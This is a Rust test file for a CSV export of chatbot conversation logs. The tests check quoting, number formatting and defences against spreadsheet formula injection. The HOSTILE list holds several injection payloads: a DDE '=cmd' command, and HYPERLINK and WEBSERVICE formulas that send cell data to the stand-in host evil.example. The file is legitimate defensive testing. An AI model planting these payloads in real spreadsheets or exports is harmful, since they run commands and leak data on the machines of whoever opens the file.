use proptest::{prelude::*, test_runner::RngSeed};

use super::{csv_parser::parse, fixture::*};
use crate::text::export::{
    CsvRows, CsvSettings, ExportFormat,
    csv_cell::{self, is_formula, plain},
};

fn rows(rows: CsvRows) -> Vec<Vec<String>> {
    let csv = CsvSettings { rows, byte_order_mark: true, scores: vec!["Quality".into(), "=cmd".into()] };
    let settings = crate::text::export::ExportSettings { csv, ..settings() };
    let file = file(ExportFormat::Csv, settings, &[full()]);
    assert!(file.starts_with('\u{FEFF}'));
    let rows = parse(&file);
    assert!(rows.iter().all(|row| row.len() == rows[0].len()));
    rows
}

/// The cell below this heading.
fn cell(rows: &[Vec<String>], row: usize, heading: &str) -> String {
    let at =
        rows[0].iter().position(|name| name == heading).unwrap_or_else(|| panic!("{heading}: {:?}", rows[0]));
    rows[row][at].clone()
}

#[test]
fn a_conversation_is_a_row_with_all_that_was_said_of_it() {
    let rows = rows(CsvRows::Conversations);
    assert_eq!(rows.len(), 2);
    let cell = |heading| cell(&rows, 1, heading);
    assert_eq!(cell("Question"), "Where is my order?");
    assert_eq!(cell("Start"), "2026-01-02T10:00:00.000+01:00");
    assert_eq!((cell("Duration (ms)"), cell("Turns")), ("303500".into(), "2".into()));
    assert_eq!((cell("Thumbs up"), cell("Thumbs down")), ("1".into(), "1".into()));
    assert_eq!((cell("Quality"), cell("Status")), ("0.75".into(), "inactive".into()));
    assert_eq!(cell("Quality: reasons"), "Ana Ruiz: Half right, \"half\" wrong");
    let scores = cell("Scores");
    assert!(scores.starts_with(
        "Quality: 0.5 (Ana Ruiz, ui, 2026-01-02T11:00:00.000+01:00): Half right, \"half\" wrong\nQuality: 1 (Zoë, sdk,"
    ));
    assert!(scores.contains("Turn 1: User feedback: 0 (Thumbs down) (Ana Ruiz, ui"), "{scores}");
    assert!(cell("Comments").contains("edited 2026-01-02T11:06:00.000+01:00: See **order** 7\n\nTurn 1: Bo"));
    assert_eq!(cell("Errors"), "Turn 2: TimeoutError: no answer\nat line 1");
    assert_eq!(
        (cell("Model"), cell("Tokens"), cell("Cost (USD)")),
        ("m-1".into(), "30".into(), "0.002".into())
    );
    assert!(cell("Conversation").contains("User: When?"));
    assert_eq!(cell("Conversation").matches("Where is my order?").count(), 1);
    assert_eq!(cell("'=cmd"), "", "a score that nobody gave");
}

#[test]
fn a_turn_is_a_row_with_its_own_scores() {
    let rows = rows(CsvRows::Turns);
    assert_eq!(rows.len(), 3);
    assert_eq!(cell(&rows, 1, "Answer"), "In **Rotterdam**.");
    assert!(cell(&rows, 1, "Other messages").starts_with("System: Be kind.\n\nAssistant: find("));
    assert_eq!(cell(&rows, 1, "Trace id"), "0196b2d0-1111-7000-8000-000000000001");
    assert!(cell(&rows, 2, "Link").ends_with("&trace=0196b2d0-2222-7000-8000-000000000002"));
    assert_eq!((cell(&rows, 2, "Turn"), cell(&rows, 2, "Question")), ("2".into(), "When?".into()));
    assert_eq!(cell(&rows, 1, "Quality"), "", "the thread's score is not the turn's");
}

#[test]
fn a_text_that_a_spreadsheet_would_compute_is_made_text() {
    for hostile in HOSTILE {
        let mut out = String::new();
        csv_cell::text(&mut out, hostile);
        assert!(out.starts_with("\"'"), "{hostile:?} is written as {out:?}");
        assert_eq!(plain(&parse(&format!("{out}\r\n"))[0][0]), *hostile);
    }
    for harmless in ["a=b", "1-2", "Hello", "'tis", "", "(=1)", "naïve", "a\n=1", "🙂", "3 + 4", "\"quoted\""]
    {
        assert!(!is_formula(harmless), "{harmless:?}");
    }
}

#[test]
fn a_number_stays_a_number() {
    let number = |value: Option<f64>| {
        let mut out = String::new();
        csv_cell::number(&mut out, value);
        out
    };
    assert_eq!(
        [Some(-0.5), Some(0.75), Some(1e21), None, Some(f64::NAN), Some(f64::INFINITY)].map(number),
        ["-0.5", "0.75", "1000000000000000000000", "", "", ""]
    );
}

/// `HOSTILE_CSV=/tmp/hostile.csv cargo test --lib hostile` writes the file for a spreadsheet program:
/// `soffice --headless --convert-to fods /tmp/hostile.csv` must make a file without `table:formula`.
#[test]
fn a_file_of_hostile_texts_has_no_cell_that_begins_a_formula() {
    let hostile = |text: &&str| {
        let mut turn = plain_turn(text, text, text);
        turn.feedback.comments = vec![comment("c", text, text, "", "")];
        turn.feedback.tags = vec![(*text).to_owned()];
        (thread(text), vec![turn])
    };
    let all: Vec<_> = HOSTILE.iter().map(hostile).collect();
    let csv = CsvSettings {
        scores: HOSTILE.iter().map(|text| (*text).to_owned()).collect(),
        ..CsvSettings::default()
    };
    let text = file(ExportFormat::Csv, crate::text::export::ExportSettings { csv, ..settings() }, &all);
    if let Some(path) = std::env::var_os("HOSTILE_CSV") {
        std::fs::write(path, &text).unwrap();
    }
    let rows = parse(&text);
    assert_eq!(rows.len(), HOSTILE.len() + 1);
    for cell in rows.iter().flatten() {
        assert!(!is_formula(cell) || cell.starts_with('\''), "{cell:?}");
    }
}

/// Texts that some spreadsheet program takes for a formula.
pub const HOSTILE: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\")",
    "=WEBSERVICE(\"https://evil.example\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u{A0}=1+1",
    "\u{3000}=1+1",
    "\"=1+1",
    "\"=1+1\"",
    "'=1+1",
    "''=1+1",
    " ' \"=1+1",
    "“=1+1”",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u{200B}=1+1",
    "\u{FEFF}=1+1",
    "\u{202E}=1+1",
    "\u{0}=1+1",
    "\tplain",
    "−1+1",
    "=1+1\",=1+1",
    "=1+1;=1+1",
    "-0.5",
    "+",
];

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 300, rng_seed: RngSeed::Fixed(12), failure_persistence: None, ..ProptestConfig::default()
    })]

    #[test]
    fn any_text_comes_back_from_a_cell(text in ".{0,40}|[=+@'\"\t\r\n,; a-]{0,12}") {
        let mut out = String::new();
        csv_cell::text(&mut out, &text);
        out.push_str(",\"next\"\r\n");
        let rows = parse(&out);
        prop_assert_eq!(rows.len(), 1);
        prop_assert_eq!(rows[0].len(), 2);
        prop_assert_eq!(plain(&rows[0][0]), text);
    }

    #[test]
    fn no_cell_of_any_text_begins_a_formula(text in ".{0,40}|[=+@'\"\t\r\n,; a-]{0,12}") {
        let mut out = String::new();
        csv_cell::text(&mut out, &text);
        let cell = out.trim_start_matches('"');
        prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{}", out);
    }

    #[test]
    fn any_conversation_is_one_row(words in ".{0,60}|[=+@'\"\t\r\n,; a-]{0,30}") {
        let thread = thread(&words);
        let file = file(ExportFormat::Csv, settings(), &[(thread, vec![plain_turn(&words, &words, &words)])]);
        let rows = parse(&file);
        prop_assert_eq!(rows.len(), 2);
        prop_assert_eq!(rows[1].len(), rows[0].len());
        prop_assert_eq!(plain(&rows[1][1]), words);
    }
}
